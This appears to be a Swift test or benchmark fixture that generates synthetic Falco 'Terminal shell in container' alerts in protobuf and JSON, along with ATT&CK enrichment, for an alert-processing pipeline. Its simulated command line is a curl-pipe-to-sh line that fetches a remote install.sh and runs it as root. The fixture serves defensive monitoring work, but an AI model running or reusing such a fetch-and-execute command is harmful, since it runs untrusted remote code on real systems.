// SPDX-License-Identifier: Apache-2.0
import AlertModel
import CAlertBatch
import CFalcoOutputs
import CJSONScan

/// A batch of alerts of about 930 bytes in each form in which Falco sends them: sixteen fields, four tags.
enum Alerts {
    enum Form { case protobuf, wrapped, json }

    static let count = 1024

    static func entry(_ form: Form) -> DecidedEntry {
        let builder = AlertBatchBuilder(byteCapacity: 2 << 20, recordCapacity: count)
        let parser = unsafe cjson_parser_create()
        defer { unsafe cjson_parser_destroy(parser) }
        for number in 0 ..< count {
            let json = json(number)
            switch form {
            case .json: _ = unsafe cjson_scan_alert(parser, builder.raw, json, json.count, 1)
            case .protobuf, .wrapped:
                let message = protobuf(number, output: form == .wrapped ? json : [UInt8](output(number).utf8))
                _ = unsafe cfalco_append_response(builder.raw, message, message.count, 1)
                if form == .wrapped { _ = unsafe cjson_unwrap(parser, builder.raw, UInt32(number)) }
            }
        }
        let batch = builder.seal()
        precondition(batch.count == count)
        return DecidedEntry(
            installation: 0x4f1c_9a2e_07b3_d651, epoch: 0x9be0_c4d2_a1f0_8e37, place: 1_000_000, source: "node",
            content: .alerts(batch), fates: [], firstOutput: 1, outputCount: count)
    }

    /// The same with a group, an incident, ATT&CK's names and a namespace noted for every alert.
    static func enriched(_ form: Form) -> DecidedEntry {
        let plain = entry(form)
        var notes = EntryNotes()
        let attack = #"[{"tactic":"execution"},{"technique":"T1059","name":"Command and Scripting Interpreter"}]"#
        let (attackName, namespace) = (FieldName("attack"), FieldName("k8s.ns.name"))
        for index in 0 ..< count {
            notes.added.add(namespace, "shop".utf8Span.span)
            notes.added.add(attackName, attack.utf8Span.span, kind: .json)
            notes.added.endAlert()
            notes.marks.append(AlertMark(subject: 1, variant: 1, count: 1, flags: []))
            notes.links.append(IncidentLink(alert: index, incident: SubjectID(high: 3, low: 4)))
        }
        notes.subjects = [.group(SubjectID(high: 1, low: 2))]
        return DecidedEntry(
            installation: plain.installation, epoch: plain.epoch, place: plain.place, source: plain.source,
            content: plain.content, fates: [], notes: notes, firstOutput: 1, outputCount: count)
    }

    static func command(_ number: Int) -> String {
        "bash -c curl -s http://10.0.0.\(number % 250):8080/install.sh | sh"
    }

    static func output(_ number: Int) -> String {
        "20:26:40.\(100_000_000 + number): Notice A shell was spawned in a container with an attached terminal (user=root "
            + "command=\(command(number)) pid=\(4000 + number) parent=runc container=web-\(number % 40) image=registry.example/shop/web)"
    }

    static func fields(_ number: Int) -> [(key: String, value: String, quoted: Bool)] {
        [
            ("container.id", "3ad7b26ded6d", true), ("container.image.repository", "registry.example/shop/web", true),
            ("container.name", "web-\(number % 40)", true), ("evt.type", "execve", true), ("k8s.ns.name", "<NA>", true),
            ("k8s.pod.name", "web-7c9d8b5f6d-x2x\(number % 40)", true), ("proc.cmdline", command(number), true),
            ("proc.exepath", "/usr/bin/bash", true), ("proc.name", "bash", true),
            ("proc.pid", "\(4000 + number)", false),
            ("proc.pname", "runc", true), ("proc.tty", "34816", false), ("user.loginuid", "-1", false),
            ("user.name", "root", true),
            ("user.uid", "0", false),
        ]
    }

    static let tags = ["T1059", "container", "mitre_execution", "shell"]

    static func json(_ number: Int) -> [UInt8] {
        let fields = fields(number).map { "\"\($0.key)\":" + ($0.quoted ? "\"\($0.value)\"" : $0.value) }
        let tags = tags.map { "\"\($0)\"" }.joined(separator: ",")
        let text =
            "{\"hostname\":\"node-\(number % 8)\",\"output\":\"\(output(number))\",\"output_fields\":{\"evt.time\":1780000000\(100_000_000 + number),"
            + fields.joined(separator: ",")
            + "},\"priority\":\"Notice\",\"rule\":\"Terminal shell in container\",\"source\":"
            + "\"syscall\",\"tags\":[\(tags)],\"time\":\"2026-05-28T20:26:40.\(100_000_000 + number)Z\"}"
        return [UInt8](text.utf8)
    }

    static func protobuf(_ number: Int, output: [UInt8]) -> [UInt8] {
        var message: [UInt8] = []
        func add(_ field: UInt8, _ value: [UInt8], to message: inout [UInt8]) {
            message += [field << 3 | 2] + varint(UInt64(value.count)) + value
        }
        add(1, [8] + varint(1_780_000_000) + [16] + varint(UInt64(100_000_000 + number)), to: &message)
        message += [16, 5]
        add(4, [UInt8]("Terminal shell in container".utf8), to: &message)
        add(5, output, to: &message)
        // Falco's map comes in the order of a hash.
        let fields = fields(number).sorted {
            ($0.key.utf8.reduce(number) { ($0 &* 31) ^ Int($1) })
                < ($1.key.utf8.reduce(number) { ($0 &* 31) ^ Int($1) })
        }
        for field in fields {
            var entry: [UInt8] = []
            add(1, [UInt8](field.key.utf8), to: &entry)
            add(2, [UInt8](field.value.utf8), to: &entry)
            add(6, entry, to: &message)
        }
        add(7, [UInt8]("node-\(number % 8)".utf8), to: &message)
        for tag in tags { add(8, [UInt8](tag.utf8), to: &message) }
        add(9, [UInt8]("syscall".utf8), to: &message)
        return message
    }

    static func varint(_ value: UInt64) -> [UInt8] {
        var rest = value
        var bytes: [UInt8] = []
        while rest >= 128 {
            bytes.append(UInt8(rest & 127) | 128)
            rest >>= 7
        }
        return bytes + [UInt8(rest)]
    }
}
